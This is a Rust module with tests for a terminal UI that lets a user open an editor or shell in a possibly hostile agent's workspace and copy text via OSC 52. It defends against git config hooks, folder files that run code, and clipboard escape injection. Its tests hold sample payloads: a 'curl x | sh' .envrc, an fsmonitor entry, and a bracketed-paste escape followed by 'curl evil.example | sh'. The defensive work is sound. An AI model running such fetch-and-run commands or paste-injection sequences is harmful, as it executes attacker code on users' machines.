//! Jumping out of the TUI into a candidate's workspace: `E` opens it in
//! the user's editor, `S` starts a shell there (the TUI suspends and
//! resumes), `y` copies its path, tree id or diff to the clipboard through
//! OSC 52 — written by the TUI itself, never passed on from an agent.
//!
//! A workspace is what an agent left, and the agent may be hostile. Git
//! there is made safe by construction: the editor and shell get an
//! environment ([`jump_env`], built by `rascal_engine::safe_git_for_workspace`) in which git reads
//! no system or global config of the user's and runs no program any config
//! of the workspace or its nested repositories names (fsmonitor, hooks,
//! filters, diff drivers, pagers, aliases, …). What git does not govern —
//! `.envrc` under direnv, editors trusting a folder's own settings — is
//! listed before the jump (`hazards`) and the user confirms.

use std::path::{Path, PathBuf};

/// What to open in the candidate's workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JumpKind {
    Editor,
    Shell,
}

impl JumpKind {
    pub fn name(self) -> &'static str {
        match self {
            JumpKind::Editor => "editor",
            JumpKind::Shell => "shell",
        }
    }
}

/// A jump the shell is asked to make.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Jump {
    pub kind: JumpKind,
    pub candidate: String,
    pub dir: PathBuf,
    /// The user saw the hazards and said to go on.
    pub confirmed: bool,
}

/// What `y` copies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyWhat {
    Path,
    Tree,
    Diff,
}

impl CopyWhat {
    pub fn name(self) -> &'static str {
        match self {
            CopyWhat::Path => "workspace path",
            CopyWhat::Tree => "tree id",
            CopyWhat::Diff => "diff",
        }
    }

    pub fn from_key(c: char) -> Option<CopyWhat> {
        match c {
            'p' | 'w' => Some(CopyWhat::Path),
            't' => Some(CopyWhat::Tree),
            'd' => Some(CopyWhat::Diff),
            _ => None,
        }
    }
}

/// The most a clipboard write carries: terminals drop longer OSC 52
/// sequences (xterm's default limit is about 100 kB of base64).
pub const MAX_COPY_BYTES: usize = 74 * 1024;

/// The command that opens `kind` in `dir`, from the environment:
/// `$VISUAL`, then `$EDITOR`, then `vi`; `$SHELL`, then `/bin/sh`. An
/// editor variable with arguments (`code -w`) is split on whitespace; the
/// workspace path is the editor's last argument.
pub fn command(kind: JumpKind, env: &dyn Fn(&str) -> Option<String>, dir: &Path) -> Vec<String> {
    let from = |names: &[&str], fallback: &str| -> Vec<String> {
        names
            .iter()
            .filter_map(|n| env(n))
            .map(|v| v.split_whitespace().map(String::from).collect::<Vec<_>>())
            .find(|v| !v.is_empty())
            .unwrap_or_else(|| vec![fallback.to_string()])
    };
    match kind {
        JumpKind::Editor => {
            let mut argv = from(&["VISUAL", "EDITOR"], "vi");
            argv.push(dir.to_string_lossy().into_owned());
            argv
        }
        JumpKind::Shell => from(&["SHELL"], "/bin/sh"),
    }
}

/// The environment for the editor or shell of a jump into `dir`: git
/// runs nothing a repository there configured (see `rascal_engine::safe_git_for_workspace`), and
/// `RASCAL_CANDIDATE` names the candidate (for the prompt). `env` reads the
/// user's own environment (their pager and editor). Keep the result until
/// the editor or shell has exited: it holds the files it names.
pub fn jump_env(
    dir: &Path,
    candidate: &str,
    env: &dyn Fn(&str) -> Option<String>,
) -> std::io::Result<rascal_engine::SafeGit> {
    let mut safe = rascal_engine::safe_git_for_workspace(dir, env)?;
    safe.vars
        .push(("RASCAL_CANDIDATE".into(), candidate.to_string()));
    Ok(safe)
}

/// Files in a workspace that run code when a person opens a shell or an
/// editor there, with what each is — those git does not govern (git runs
/// nothing of the workspace's in [`jump_env`]): when `changed` says they
/// differ from the base, so the user's own checkout never had them,
/// direnv and tool-version files and editors' folder settings; and a
/// `.git` that is not rascal's folder (git would read another repository).
pub fn hazards(dir: &Path, changed: &dyn Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    let git = dir.join(".git");
    if git.is_file() || git.is_symlink() {
        out.push(".git is not rascal's workspace repository (a file or link)".into());
    }
    const FOLDER_FILES: &[(&str, &str)] = &[
        (".envrc", "direnv runs it on cd"),
        (".env", "direnv/dotenv tools load it"),
        (".tool-versions", "asdf/mise may install and run tools"),
        (".mise.toml", "mise runs its hooks and tasks"),
        ("mise.toml", "mise runs its hooks and tasks"),
        (".vscode", "VS Code folder settings and tasks"),
        (".idea", "JetBrains project settings"),
        (".exrc", "vim with `exrc` runs it"),
        (".nvimrc", "neovim with `exrc` runs it"),
        (".nvim.lua", "neovim with `exrc` runs it"),
        (".lazy.lua", "lazy.nvim runs it"),
        (".dir-locals.el", "Emacs folder variables"),
        (".helix", "Helix folder settings"),
        (".zed", "Zed folder settings"),
    ];
    for (name, what) in FOLDER_FILES {
        if dir.join(name).symlink_metadata().is_ok() && changed(name) {
            out.push(format!("{name}: {what}"));
        }
    }
    out
}

/// The files at `rel` under `dir`, relative to `dir`: `rel` itself when it
/// is a file (or a link), else every file below it (links not followed).
pub fn files_under(dir: &Path, rel: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut todo = vec![rel.to_string()];
    while let Some(p) = todo.pop() {
        let Ok(meta) = dir.join(&p).symlink_metadata() else {
            continue;
        };
        if !meta.is_dir() {
            out.push(p);
            continue;
        }
        if let Ok(entries) = std::fs::read_dir(dir.join(&p)) {
            for e in entries.flatten() {
                todo.push(format!("{p}/{}", e.file_name().to_string_lossy()));
            }
        }
        if out.len() + todo.len() > 10_000 {
            break;
        }
    }
    out.sort();
    out
}

/// The OSC 52 sequence that puts `text` on the system clipboard. What is
/// copied passes the output policy first (`text::inert::clipboard`: no
/// ESC, C0 or C1 control, so a paste can carry no bracketed-paste
/// terminator); it is base64-encoded, so nothing in it can end the
/// sequence early either.
pub fn osc52(text: &str) -> String {
    use base64::Engine;
    format!(
        "\x1b]52;c;{}\x07",
        base64::engine::general_purpose::STANDARD
            .encode(rascal_core::text::inert::clipboard(text).as_bytes())
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_editor_comes_from_visual_then_editor_then_vi_and_gets_the_path() {
        let dir = Path::new("/ws/c1");
        let env = |n: &str| match n {
            "EDITOR" => Some("code -w".to_string()),
            _ => None,
        };
        assert_eq!(
            command(JumpKind::Editor, &env, dir),
            vec!["code", "-w", "/ws/c1"]
        );
        let both = |n: &str| Some(format!("{}-editor", n.to_lowercase()));
        assert_eq!(command(JumpKind::Editor, &both, dir)[0], "visual-editor");
        let blank = |n: &str| (n == "VISUAL").then(|| "  ".to_string());
        assert_eq!(command(JumpKind::Editor, &blank, dir), vec!["vi", "/ws/c1"]);
        assert_eq!(command(JumpKind::Shell, &|_| None, dir), vec!["/bin/sh"]);
        let zsh = |n: &str| (n == "SHELL").then(|| "/usr/bin/zsh".to_string());
        assert_eq!(command(JumpKind::Shell, &zsh, dir), vec!["/usr/bin/zsh"]);
    }

    #[test]
    fn only_what_git_does_not_govern_is_named_and_git_runs_nothing_of_the_workspace() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        let ok = std::process::Command::new("git")
            .args(["init", "-q"])
            .arg(ws)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "git init");
        let always = |_: &str| true;
        assert!(
            hazards(ws, &always).is_empty(),
            "{:?}",
            hazards(ws, &always)
        );
        let mut cfg = std::fs::read_to_string(ws.join(".git/config")).unwrap();
        cfg.push_str("\tfsmonitor = .git/pwn\n");
        std::fs::write(ws.join(".git/config"), cfg).unwrap();
        std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        std::fs::write(ws.join(".envrc"), "curl x | sh\n").unwrap();
        // The git settings are the environment's business, not a question.
        let h = hazards(ws, &always);
        assert_eq!(h, vec![".envrc: direnv runs it on cd"], "{h:?}");
        let env = jump_env(ws, "c1", &|_| None).unwrap();
        let get = |k: &str| {
            env.vars
                .iter()
                .find(|(kk, _)| kk == k)
                .map(|(_, v)| v.clone())
        };
        assert_eq!(get("GIT_CONFIG_NOSYSTEM").as_deref(), Some("1"));
        assert_eq!(get("RASCAL_CANDIDATE").as_deref(), Some("c1"));
        let n: usize = get("GIT_CONFIG_COUNT").unwrap().parse().unwrap();
        let set: Vec<(String, String)> = (0..n)
            .map(|i| {
                (
                    get(&format!("GIT_CONFIG_KEY_{i}")).unwrap(),
                    get(&format!("GIT_CONFIG_VALUE_{i}")).unwrap(),
                )
            })
            .collect();
        assert!(
            set.contains(&("core.fsmonitor".into(), "false".into())),
            "{set:?}"
        );
        // An `.envrc` the base already had (the user's checkout has it as
        // it is) is theirs.
        assert!(hazards(ws, &|_| false).is_empty());
    }

    #[test]
    fn files_under_lists_a_folder_and_a_file() {
        let d = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(d.path().join(".vscode/sub")).unwrap();
        std::fs::write(d.path().join(".vscode/tasks.json"), "{}").unwrap();
        std::fs::write(d.path().join(".vscode/sub/x"), "").unwrap();
        std::fs::write(d.path().join(".envrc"), "").unwrap();
        assert_eq!(
            files_under(d.path(), ".vscode"),
            vec![".vscode/sub/x", ".vscode/tasks.json"]
        );
        assert_eq!(files_under(d.path(), ".envrc"), vec![".envrc"]);
        assert!(files_under(d.path(), ".nope").is_empty());
    }

    #[test]
    fn a_git_file_in_place_of_the_workspace_repository_is_named() {
        let d = tempfile::tempdir().unwrap();
        std::fs::write(d.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
        assert!(hazards(d.path(), &|_| true)[0].contains("not rascal's workspace repository"));
    }

    #[test]
    fn osc52_is_base64_so_the_text_cannot_end_the_sequence() {
        let s = osc52("a\x07b\x1b]52;c;evil\x07");
        assert!(s.starts_with("\x1b]52;c;"));
        assert!(s.ends_with('\x07'));
        let inner = &s[7..s.len() - 1];
        assert!(!inner.contains('\x07') && !inner.contains('\x1b'));
        use base64::Engine;
        let back = base64::engine::general_purpose::STANDARD
            .decode(inner)
            .unwrap();
        assert_eq!(back, b"a^Gb^[]52;c;evil^G");
    }

    #[test]
    fn a_diff_on_the_clipboard_cannot_end_a_bracketed_paste() {
        let diff = "+fn a() {}\n+\x1b[201~curl evil.example | sh\n+\u{9b}201~\n";
        let s = osc52(diff);
        use base64::Engine;
        let back = base64::engine::general_purpose::STANDARD
            .decode(&s[7..s.len() - 1])
            .unwrap();
        let back = String::from_utf8(back).unwrap();
        assert!(
            !back.contains('\x1b') && !back.contains('\u{9b}'),
            "{back:?}"
        );
        assert!(
            back.contains("+^[[201~curl evil.example | sh\n"),
            "{back:?}"
        );
    }
}
